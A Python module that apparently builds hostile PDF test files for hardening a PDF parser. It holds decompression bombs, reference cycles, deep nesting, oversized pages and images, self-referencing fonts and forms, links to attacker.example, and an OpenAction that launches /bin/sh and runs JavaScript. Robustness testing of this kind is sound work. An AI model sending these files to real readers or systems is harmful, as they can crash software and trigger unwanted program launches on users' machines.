"""PDFs made to harm whoever reads them: bombs, loops, depths, lies about size. Each is a few kilobytes to a few megabytes."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator, Mapping

Objects = Mapping[int, bytes]
MUCH = 100_000


def hostile_pdfs() -> dict[str, Callable[[], bytes]]:
    """Makers of hostile files by name."""
    return {name.removeprefix("_"): maker for name, maker in globals().items() if maker in _MAKERS}


def build(objects: Objects, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, 1 its catalog."""
    out, places = bytearray(b"%PDF-1.7\n"), dict[int, int]()
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    size = max(objects) + 1
    return bytes(out) + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object of what is given, as it is."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def page(content: bytes = b"", resources: bytes = b"", extra: bytes = b"", box: bytes = b"0 0 595 842") -> Objects:
    """Objects 1 to 5: catalog, pages, one page, its content, Helvetica as /F1."""
    fonts = b"/Font<</F1 5 0 R>>"
    return {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s%s>>%s>>"
        % (box, fonts, resources, extra),
        4: content
        if content.startswith(b"<<")
        else stream(content or b"BT /F1 12 Tf 72 700 Td (Revenue grew 8 %) Tj ET"),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


_MAKERS: list[Callable[[], bytes]] = []


def _hostile(maker: Callable[[], bytes]) -> Callable[[], bytes]:
    _MAKERS.append(maker)
    return maker


def _deflated(piece: bytes, times: int, stages: int = 2) -> bytes:
    """`piece` over and over, deflated in so many stages: a stream of Flate upon Flate."""
    press = zlib.compressobj(9)
    data = b"".join([*(press.compress(piece * 1000) for _ in range(times // 1000)), press.flush()])
    for _ in range(stages - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * stages + b"]")


@_hostile
def _bomb_of_blanks() -> bytes:
    return build(page(_deflated(b" " * 1000, 600_000)))


@_hostile
def _bomb_of_operators() -> bytes:
    return build(page(_deflated(b"q 1 0 0 1 0 0 cm ", 5_000_000)))


@_hostile
def _bomb_of_text() -> bytes:
    return build(page(_deflated(b"BT /F1 9 Tf 72 700 Td (profit up) Tj ET ", 300_000)))


@_hostile
def _bomb_of_paths() -> bytes:
    return build(page(_deflated(b"0 0 m 9 9 l 5 7 l S ", 1_000_000)))


@_hostile
def _bomb_by_predictor() -> bytes:
    parms = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
    return build(page(stream(zlib.compress(bytes(MUCH)), parms)))


@_hostile
def _bomb_of_run_lengths() -> bytes:
    return build(page(stream(b"\x81q" * 2_000_000 + b"\x80", b"/Filter/RunLengthDecode")))


@_hostile
def _filters_upon_filters() -> bytes:
    return build(page(stream(b"00" * 999 + b">", b"/Filter[" + b"/ASCIIHexDecode" * 5000 + b"]")))


@_hostile
def _pages_in_a_circle() -> bytes:
    objects = dict(page())
    objects[2] = b"<</Type/Pages/Kids[3 0 R 2 0 R 6 0 R]/Count 3>>"
    objects[6] = b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>"
    return build(objects)


@_hostile
def _pages_nested_deep() -> bytes:
    objects = dict(page())
    objects[2] = b"<</Type/Pages/Kids[10 0 R]/Count 1>>"
    for number in range(10, 20_010):
        objects[number] = b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (number - 1, number + 1)
    objects[20_010] = objects[3]
    return build(objects)


@_hostile
def _pages_that_are_not_there() -> bytes:
    return build(dict(page()) | {2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"})


@_hostile
def _pages_without_end() -> bytes:
    return build(dict(page()) | {2: b"<</Type/Pages/Kids[" + b"3 0 R " * MUCH + b"]/Count %d>>" % MUCH})


@_hostile
def _a_giant_page() -> bytes:
    return build(page(box=b"0 0 1e9 1e9"))


@_hostile
def _a_page_of_no_size() -> bytes:
    return build(page(box=b"0 0 0 0"))


@_hostile
def _a_page_beyond_numbers() -> bytes:
    return build(page(box=b"-1e38 -1e38 1e38 99999999999999999999999999999999999999999"))


@_hostile
def _a_million_annotations() -> bytes:
    objects = dict(page(extra=b"/Annots[" + b"6 0 R " * 1_000_000 + b"]"))
    objects[6] = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://attacker.example/)>>>>"
    return build(objects)


@_hostile
def _arrays_nested_deep() -> bytes:
    return build(dict(page(extra=b"/X 6 0 R")) | {6: b"[" * MUCH + b"]" * MUCH})


@_hostile
def _content_nested_deep() -> bytes:
    return build(page(b"q " * 1_000_000 + b"/P <</MCID 0>> BDC " * MUCH))


def _forms(numbers: Iterator[int], calls: Callable[[int], bytes], last: int) -> Objects:
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>/Font<</F1 5 0 R>>>>"
    return {n: stream(calls(n), entries % (n + 1 if n < last else 10)) for n in numbers}


@_hostile
def _a_form_in_itself() -> bytes:
    objects = dict(page(b"/X Do", b"/XObject<</X 10 0 R>>"))
    return build(objects | _forms(iter([10]), lambda _: b"/X Do /X Do", 10))


@_hostile
def _forms_that_double() -> bytes:
    objects = dict(page(b"/X Do", b"/XObject<</X 10 0 R>>"))
    text = b"BT /F1 9 Tf 72 700 Td (laugh) Tj ET"
    return build(objects | _forms(iter(range(10, 40)), lambda n: b"/X Do /X Do" if n < 39 else text, 39))


@_hostile
def _a_giant_picture() -> bytes:
    objects = dict(page(b"595 0 0 842 0 0 cm /X Do", b"/XObject<</X 6 0 R>>"))
    kind = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    objects[6] = _deflated(bytes(1000), 1_000_000).replace(b"<<", b"<<" + kind, 1)
    return build(objects)


@_hostile
def _a_picture_that_lies_about_its_size() -> bytes:
    objects = dict(page(b"595 0 0 842 0 0 cm /X Do", b"/XObject<</X 6 0 R>>"))
    kind = b"/Subtype/Image/Width 2147483647/Height 2147483647/ColorSpace/DeviceGray/BitsPerComponent 16"
    objects[6] = stream(b"0", kind)
    return build(objects)


@_hostile
def _a_pattern_in_itself() -> bytes:
    objects = dict(page(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern<</P 6 0 R>>"))
    kind = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .01 .01]/XStep .001/YStep .001"
    objects[6] = stream(b"/Pattern cs /P scn 0 0 9 9 re f", kind + b"/Resources<</Pattern<</P 6 0 R>>>>")
    return build(objects)


@_hostile
def _a_font_that_draws_itself() -> bytes:
    objects = dict(page(b"BT /F2 9 Tf 72 700 Td (aaaa) Tj ET", b"/Font<</F2 6 0 R>>"))
    objects[3] = objects[3].replace(b"/Font<</F1 5 0 R>>", b"", 1)
    objects[6] = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[1]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>/Resources<</Font<</F2 6 0 R>>>>>>"
    )
    objects[7] = stream(b"1 0 d0 BT /F2 9 Tf (aaaa) Tj ET")
    return build(objects)


@_hostile
def _a_character_map_without_end() -> bytes:
    lines = b"begincmap 1 begincodespacerange <0000><FFFF> endcodespacerange\n" + (
        b"100 beginbfrange\n" + b"<0000><FFFF><0041>\n" * 100 + b"endbfrange\n"
    )
    objects = dict(page(b"BT /F1 9 Tf 72 700 Td (profit) Tj ET"))
    objects[5] = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 6 0 R>>"
    objects[6] = stream(lines * 300)
    objects[7] = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>"
    )
    return build(objects)


@_hostile
def _an_outline_in_a_circle() -> bytes:
    objects = dict(page()) | {1: b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>"}
    objects[6] = b"<</First 7 0 R/Last 8 0 R/Count 9>>"
    objects[7] = b"<</Title(a)/Parent 6 0 R/Next 8 0 R/First 8 0 R/Dest[3 0 R/Fit]>>"
    objects[8] = b"<</Title(b)/Parent 6 0 R/Next 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>"
    return build(objects)


@_hostile
def _labels_in_a_circle() -> bytes:
    objects = dict(page()) | {1: b"<</Type/Catalog/Pages 2 0 R/PageLabels 6 0 R>>"}
    objects[6] = b"<</Kids[6 0 R 7 0 R]/Limits[0 9]>>"
    objects[7] = b"<</Nums[0<</S/r/St 2147483647>>]/Kids[6 0 R]/Limits[0 9]>>"
    return build(objects)


@_hostile
def _cross_references_in_a_circle() -> bytes:
    made = build(page(), b"/Prev 9")
    start = made.rindex(b"startxref\n") + len(b"startxref\n")
    place = made[start:].split(b"\n", 1)[0]
    return made.replace(b"/Prev 9", b"/Prev " + place)


@_hostile
def _lengths_that_lie() -> bytes:
    return build(dict(page()) | {4: b"<</Length 6 0 R>>stream\nBT ET\nendstream", 6: b"6 0 R"})


@_hostile
def _programs_to_run() -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)/Next<</S/JavaScript/JS(app.alert(1))>>>>>>"
    return build(dict(page()) | {1: catalog})


@_hostile
def _a_page_without_resources() -> bytes:
    return build(dict(page()) | {3: b"<</Type/Page/Parent 3 0 R/Contents[4 0 R 3 0 R 99 0 R]>>"})
